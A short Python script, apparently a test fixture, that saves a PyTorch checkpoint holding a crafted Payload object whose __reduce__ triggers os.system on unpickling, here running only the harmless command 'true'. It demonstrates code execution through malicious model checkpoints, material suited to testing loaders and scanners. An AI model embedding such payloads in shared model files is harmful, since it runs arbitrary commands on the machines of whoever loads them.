# /// script
# requires-python = ">=3.10"
# dependencies = ["torch==2.13.0"]
# ///
"""A file that starts a program."""

import os

import torch
from net import SimpleNet

torch.manual_seed(0)
model = SimpleNet()


class Payload:
    """Pickles as a call of `os.system`."""

    def __reduce__(self) -> tuple:
        return os.system, ("true",)


torch.save({"model": model.state_dict(), "extra": Payload()}, "checkpoint.pth")
